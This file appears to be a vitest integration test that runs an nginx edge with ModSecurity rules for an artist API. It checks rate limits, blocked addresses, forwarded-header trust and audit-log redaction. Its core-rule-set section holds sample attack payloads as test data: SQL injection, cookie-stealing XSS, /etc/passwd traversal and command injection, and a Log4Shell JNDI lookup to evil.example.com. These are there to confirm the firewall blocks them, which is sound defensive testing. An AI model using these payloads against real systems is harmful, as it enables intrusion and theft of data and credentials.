import { join } from "node:path";
import * as fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { MiniProgramSettings } from "../../components/config/environment.ts";
import { BALANCED_HTTP_PORT, nginx } from "../../components/edge/nginx.ts";
import { composeGuest } from "../../components/guest/compose.ts";
import type { Guest } from "../../components/guest/guest.ts";
import { rulesOf } from "../../components/protection/mini-program-rules.ts";
import { modSecurity, modSecurityAdditions } from "../../components/protection/modsecurity.ts";
import { type ClientRequest, verdictOf } from "../../components/protection/verdict.ts";
import { selfSigned } from "../edge/certificate.ts";
import { describeJudged } from "../guest/judges.ts";
import { type Machine, Segment } from "../guest/machine.ts";
import { environmentOf } from "../program/recorded.ts";
import { requests, TABLE } from "./requests.ts";

const NAME = "api.artist.example.com";
const EDGE = "10.99.0.11";
const CLIENT = "10.99.0.99";

const artist = environmentOf("prod").miniPrograms.find(({ name }) => name === "artist");
if (!artist) throw new Error("prod has the artist mini-program");

function settings(coreRules: "off" | "monitor" | "block"): MiniProgramSettings {
  return {
    ...(artist as MiniProgramSettings),
    edge: { ...(artist as MiniProgramSettings).edge, maxBodyMiB: 1 },
    protection: {
      coreRules,
      blockedCidrs: ["198.51.100.0/24", "203.0.113.7/32"],
      rateLimits: [{ path: "/api/v1/limited", requests: 5, seconds: 600 }],
    },
  };
}

function guest(coreRules: "off" | "monitor" | "block"): Guest {
  const rules = rulesOf(settings(coreRules));
  return composeGuest("edge-1", "edge", [
    modSecurity(rules),
    nginx({
      serverName: NAME,
      upstreams: [{ name: "tomcat-1", address: "10.99.0.21", port: 8080 }],
      requestsPerSecond: 10_000,
      burst: 10_000,
      maxBodyMiB: 1,
      additions: modSecurityAdditions(rules),
      balancers: { ownAddress: EDGE, cidrs: [`${CLIENT}/32`], filtered: false, internal: false },
    }),
  ]);
}

const commands = ["nginx", "openssl", "curl", "ip", "unshare", "nsenter", "ss"];
describeJudged("the rules, carried out by a real ModSecurity", { commands, root: true }, () => {
  let segment: Segment;
  let edge: Machine;
  let client: Machine;

  /** What becomes of requests, in their order: the test plays the balancer, which names the client. */
  async function statusesOf(asked: readonly ClientRequest[]): Promise<number[]> {
    const statuses: number[] = [];
    // As many at once as a command line holds.
    for (let first = 0; first < asked.length; first += 200) {
      const { stdout } = await client.run(
        process.execPath,
        join(import.meta.dirname, "send-requests.mjs"),
        JSON.stringify({
          host: EDGE,
          port: BALANCED_HTTP_PORT,
          name: NAME,
          requests: asked.slice(first, first + 200),
        }),
      );
      statuses.push(...(JSON.parse(stdout) as number[]));
    }
    // A WebSocket that was let through.
    return statuses.map((status) => (status === 101 ? 200 : status));
  }
  const statusOf = async (
    request: Partial<ClientRequest> & { readonly query?: string; readonly body?: string },
  ) => (await statusesOf([{ ...PASSES, ...request }]))[0];

  async function serve(coreRules: "off" | "monitor" | "block"): Promise<void> {
    await edge.run("nginx", "-s", "stop");
    const { certificate, privateKey } = await selfSigned(NAME);
    await edge.provision(guest(coreRules), { tlsCertificate: certificate, tlsPrivateKey: privateKey });
    const { status, stderr } = await edge.verify(guest(coreRules), "nginx");
    expect(`${status} ${stderr.replaceAll(/.*modsecurity.*rules loaded.*\n/gi, "")}`).toMatch(/^0/);
    await edge.must("nginx");
    await edge.listens(BALANCED_HTTP_PORT);
  }

  beforeAll(async () => {
    segment = await Segment.create();
    edge = await segment.machine(EDGE);
    client = await segment.machine(CLIENT);
    const backend = await segment.machine("10.99.0.21");
    backend.start(
      process.execPath,
      join(import.meta.dirname, "../edge/echo-upstream.mjs"),
      "10.99.0.21",
      "8080",
    );
    await backend.listens(8080);
  });
  afterAll(async () => {
    await segment?.destroy();
  });

  describe("our own rules", () => {
    beforeAll(() => serve("off"));

    it("decide a table of requests as the model does", async () => {
      const rules = rulesOf(settings("off"));
      const expected = TABLE.map(({ request }) => expectedStatus(verdictOf(rules, request)));
      expect(TABLE.map(({ rule, request }) => [rule, verdictOf(rules, request)])).toEqual(
        TABLE.map(({ rule }) => [rule, rule === null ? { passes: true } : expect.objectContaining({ rule })]),
      );
      const live = await statusesOf(TABLE.map(({ request }) => request));
      expect(TABLE.map(({ request }, index) => `${request.method} ${request.path} ${live[index]}`)).toEqual(
        TABLE.map(({ request }, index) => `${request.method} ${request.path} ${expected[index]}`),
      );
    });

    it("decide generated requests as the model does", async () => {
      const rules = rulesOf(settings("off"));
      const asked = fc.sample(requests, { numRuns: 1500, seed: 20261125 });
      const live = await statusesOf(asked);
      const disagreements = asked.flatMap((request, index) => {
        const expected = expectedStatus(verdictOf(rules, request));
        return live[index] === expected ? [] : [{ request, expected, got: live[index] }];
      });
      expect(disagreements).toEqual([]);
      // Worth something: both verdicts occur often.
      const refused = asked.filter((request) => !verdictOf(rules, request).passes).length;
      expect(refused).toBeGreaterThan(300);
      expect(asked.length - refused).toBeGreaterThan(300);
    });

    it("answer 429 to the client who asks one path too often, and to nobody else", async () => {
      const asked = { ...PASSES, path: "/api/v1/limited/x", address: "192.0.2.50" };
      const statuses = await statusesOf(Array.from({ length: 7 }, () => asked));
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
      expect(await statusOf({ path: "/api/v1/limited", address: "192.0.2.51" })).toBe(200);
      expect(await statusOf({ path: "/api/v1/other", address: "192.0.2.50" })).toBe(200);
      expect(await statusOf({ path: "/api/v1/limitedx", address: "192.0.2.50" })).toBe(200);
    });

    it("believe a balancer about the client, and no one before it", async () => {
      const forged = { "x-forwarded-for": "192.0.2.1, 203.0.113.7" };
      expect(await statusOf({ headers: forged, address: "" })).toBe(403);
      const claimed = { "x-forwarded-for": "203.0.113.7, 192.0.2.1" };
      expect(await statusOf({ headers: claimed, address: "" })).toBe(200);
    });

    it("log what was refused, without a secret of the client", async () => {
      await statusOf({ path: "/manager/html", headers: { cookie: "JSESSIONID=s3cretcookie" } });
      const log = await edge.must("cat", "/var/log/nginx/modsecurity-audit.json");
      expect(log).toContain("administration");
      expect(log).not.toContain("s3cretcookie");
    });
  });

  describe("the core rule set", () => {
    const attacks = [
      { query: "?q=1%27%20OR%20%271%27%3D%271%27%20UNION%20SELECT%20password%20FROM%20users--" },
      { query: "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" },
      { query: "?file=../../../../etc/passwd" },
      { query: "?cmd=%3Bcat%20/etc/passwd" },
      {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ name: `\${jndi:ldap://evil.example.com/x}` }),
      },
      {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ q: "' UNION SELECT card FROM payments -- " }),
      },
    ];
    const harmless = [
      {},
      { query: "?page=2&sort=newest&q=%E5%A9%9A%E7%BA%B1%E6%91%84%E5%BD%B1" },
      {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ title: "后古艺术家 · 西湖", note: "it's 5 o'clock; f/1.8 & ISO 100" }),
      },
      { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify({ id: 7 }) },
    ];

    it("blocks attacks and lets the API's own requests pass", async () => {
      await serve("block");
      for (const attack of attacks) expect([attack, await statusOf(attack)]).toEqual([attack, 403]);
      for (const request of harmless) expect([request, await statusOf(request)]).toEqual([request, 200]);
    });

    it("only notes them when it monitors, while our own rules block all the same", async () => {
      await serve("monitor");
      for (const attack of attacks) expect([attack, await statusOf(attack)]).toEqual([attack, 200]);
      expect(await statusOf({ path: "/actuator/env" })).toBe(403);
      // Whoever monitors must see what would have been blocked.
      const log = await edge.must("cat", "/var/log/nginx/modsecurity-audit.json");
      expect(log).toMatch(/"ruleId":"942\d{3}"/);
      expect(log).toMatch(/"ruleId":"941\d{3}"/);
    });
  });
});

const PASSES: ClientRequest = {
  address: "192.0.2.1",
  method: "GET",
  path: "/api/v1/pictures",
  bodyBytes: 0,
  headers: {},
};

function expectedStatus(verdict: ReturnType<typeof verdictOf>): number {
  return verdict.passes ? 200 : verdict.status;
}
